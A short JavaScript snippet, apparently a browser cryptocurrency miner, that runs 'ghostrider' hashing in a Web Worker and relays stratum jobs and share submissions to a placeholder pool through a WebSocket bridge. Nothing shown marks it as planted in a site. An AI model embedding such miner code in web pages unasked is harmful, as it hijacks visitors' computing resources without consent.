const POOL = 'stratum+tcp://rtm.pool.invalid:6273';
const ALGO = 'ghostrider';
let hashrate = 0, shares = { accepted: 0, rejected: 0 };
const bridge = new WebSocket('wss://bridge.invalid/?target=' + POOL);
const worker = new Worker('gr-worker.js');
worker.postMessage({ cmd: 'init', algo: ALGO, threads: 2, intensity: 30 });
worker.onmessage = ({ data }) => {
  if (data.kind === 'rate') hashrate = data.hashrate;
  if (data.kind === 'share') bridge.send(JSON.stringify({ id: 4, method: 'mining.submit', params: ['NOBODY', data.job_id, data.extranonce2, data.ntime, data.nonce] }));
};
bridge.onmessage = ({ data }) => {
  const message = JSON.parse(data);
  if (message.method === 'mining.notify') worker.postMessage({ cmd: 'job', params: message.params });
  if (message.id === 4) shares[message.result ? 'accepted' : 'rejected']++;
};
